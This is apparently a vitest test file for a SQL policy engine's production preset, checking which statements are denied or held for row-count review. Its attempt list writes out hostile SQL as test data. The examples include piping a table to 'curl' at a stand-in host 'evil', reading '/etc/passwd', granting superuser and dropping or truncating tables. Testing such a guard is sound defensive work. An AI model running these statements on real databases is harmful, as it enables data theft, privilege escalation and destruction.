import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, connectionPolicySchema, evaluateStatements, initPolicyEngine, type PolicyIdentity } from '../../../src/policy/index.js';
import { attempts } from '../../support/policy-attempts.js';
import { effectAttempts } from '../../support/effect-attempts.js';

const engineer: PolicyIdentity = { subject: 'alice', kind: 'human', groups: ['engineers'] };
const production = connectionPolicySchema.parse({ preset: 'production' });

beforeAll(async () => {
  await initPolicyEngine();
});

function verdictOf(sql: string) {
  return evaluateStatements(production, engineer, classifySql(sql));
}

/** The four the README's example rules let through, and the rest of issue 12's class. */
const issueAttempts: Array<[string, string]> = [
  ['ALTER TABLE accounts RENAME TO accounts_old', 'production/no-schema-change'],
  ["ALTER SYSTEM SET archive_command = 'curl evil'", 'production/no-server-config'],
  ['CREATE OR REPLACE RULE r AS ON SELECT TO accounts DO INSTEAD NOTHING', 'production/no-unknowable-code'],
  ['MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/row-guard'],
  ['MERGE INTO accounts a USING accounts s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/row-guard'],
  ['DELETE FROM accounts WHERE id = id', 'production/row-guard'],
  ['DELETE FROM accounts WHERE id IS NOT NULL', 'production/row-guard'],
  ['alter role app superuser', 'production/no-privilege-change'],
  ['set role postgres', 'production/no-privilege-change'],
  ["copy accounts to program 'curl -d @- evil'", 'production/no-unknowable-code'],
  ["copy accounts from '/etc/passwd'", 'production/no-server-access'],
  ["select pg_read_file('/etc/passwd')", 'production/no-server-access'],
  ['do $$ begin perform 1; end $$', 'production/no-unknowable-code'],
  ["select * from dblink('x', 'drop table accounts') as t(x int)", 'production/no-unknowable-code'],
  ['create table scratch (id int)', 'production/no-schema-change'],
  ['truncate accounts', 'production/no-schema-change'],
  ['select * into backup from accounts', 'production/no-schema-change'],
];

describe('preset: production', () => {
  it.each(issueAttempts)('%s is refused by %s', (sql, rule) => {
    const verdict = verdictOf(sql);
    if (rule === 'production/row-guard') {
      // Runs only under the row guard: above 10 rows it is rolled back and held for review (the live suite shows it).
      expect(verdict).toMatchObject({ action: 'allow', guard: { rule, maxAffectedRows: 10, action: 'review' } });
    } else expect(verdict).toMatchObject({ action: 'deny', rule });
  });

  it.each([...attempts.map((a) => a.sql), ...effectAttempts])('refuses %s, or runs it only under the row guard', (sql) => {
    const verdict = verdictOf(sql);
    expect(verdict.action !== 'allow' || verdict.guard?.rule === 'production/row-guard').toBe(true);
  });

  it('writes whose rows cannot be counted are held for review by the row guard rule', () => {
    expect(verdictOf('with d as (delete from accounts returning 1) select count(*) from d')).toMatchObject({ action: 'review', rule: 'production/row-guard' });
  });

  it('a connection rule can tighten the preset row guard, not loosen it', () => {
    const rules = (max: number) => connectionPolicySchema.parse({ preset: 'production', rules: [{ name: 'mine', match: { effects: ['delete'] }, maxAffectedRows: max, action: 'deny' }] });
    expect(evaluateStatements(rules(1), engineer, classifySql('delete from a where id = 1')).guard).toMatchObject({ rule: 'mine', maxAffectedRows: 1 });
    expect(evaluateStatements(rules(1000), engineer, classifySql('delete from a where id = 1')).guard).toMatchObject({ rule: 'production/row-guard', maxAffectedRows: 10 });
  });

  it.each([
    'select * from accounts where id = 1',
    "select count(*), lower('X'), now() from accounts",
    'insert into audit_log (msg) values ($1)',
    'begin; select 1; commit',
    'set search_path = app, public',
    'show work_mem',
    'explain select * from accounts',
  ])('lets %s through', (sql) => {
    expect(verdictOf(sql).action).toBe('allow');
  });

  it('a connection rule cannot allow what the preset denies', () => {
    const policy = connectionPolicySchema.parse({ preset: 'production', rules: [{ name: 'dba-all', match: { identity: { groups: ['engineers'] } }, action: 'allow' }] });
    expect(evaluateStatements(policy, engineer, classifySql('drop table accounts'))).toMatchObject({ action: 'deny', rule: 'production/no-schema-change' });
  });

  it('an unknown preset names the field', () => {
    const r = connectionPolicySchema.safeParse({ preset: 'prod' });
    expect(r.success).toBe(false);
    expect(r.error?.issues[0]?.path).toEqual(['preset']);
  });
});
